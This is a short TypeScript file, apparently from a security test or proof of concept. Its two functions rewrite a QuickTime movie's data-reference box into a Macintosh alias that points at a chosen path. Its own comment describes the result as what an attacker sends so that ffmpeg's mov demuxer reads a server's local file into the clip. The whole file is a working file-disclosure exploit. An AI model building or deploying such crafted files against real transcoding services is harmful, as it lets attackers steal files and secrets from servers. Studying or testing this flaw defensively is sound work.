/**
 * Turn a QuickTime file (moov behind mdat) into one whose data reference is a Macintosh alias of another file: what an
 * attacker sends to have a server's file read into his clip.
 */
export function pointElsewhere(mov: Buffer, target: string): Buffer {
  const at = mov.lastIndexOf('dref', undefined, 'latin1') - 4
  const oldEntry = at + 16
  const oldSize = mov.readUInt32BE(oldEntry)
  const entry = aliasEntry(target)
  const grown = Buffer.concat([mov.subarray(0, oldEntry), entry, mov.subarray(oldEntry + oldSize)])
  for (const box of ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref']) {
    const start = grown.lastIndexOf(box, at + 4, 'latin1') - 4
    grown.writeUInt32BE(grown.readUInt32BE(start) + entry.length - oldSize, start)
  }
  return grown
}

/** The fields that ffmpeg's mov demuxer reads of an alias record (libavformat/mov.c, mov_read_dref). */
function aliasEntry(target: string): Buffer {
  const path = Buffer.from(target.length % 2 ? `${target}\0` : target)
  const name = Buffer.from(target.split('/').at(-1) ?? '')
  const head = Buffer.alloc(12 + 150)
  head.write('alis', 4, 'latin1')
  let at = 12 + 10
  head.writeUInt8(1, at)
  head.write('/', at + 1)
  at += 28 + 12
  head.writeUInt8(name.length, at)
  name.copy(head, at + 1, 0, 63)
  at += 64 + 16
  head.writeUInt16BE(1, at)
  head.writeUInt16BE(1, at + 2)
  const tail = Buffer.alloc(4)
  tail.writeUInt16BE(2, 0)
  tail.writeUInt16BE(path.length, 2)
  const entry = Buffer.concat([head, tail, path, Buffer.from([0xff, 0xff, 0, 0])])
  entry.writeUInt32BE(entry.length, 0)
  return entry
}
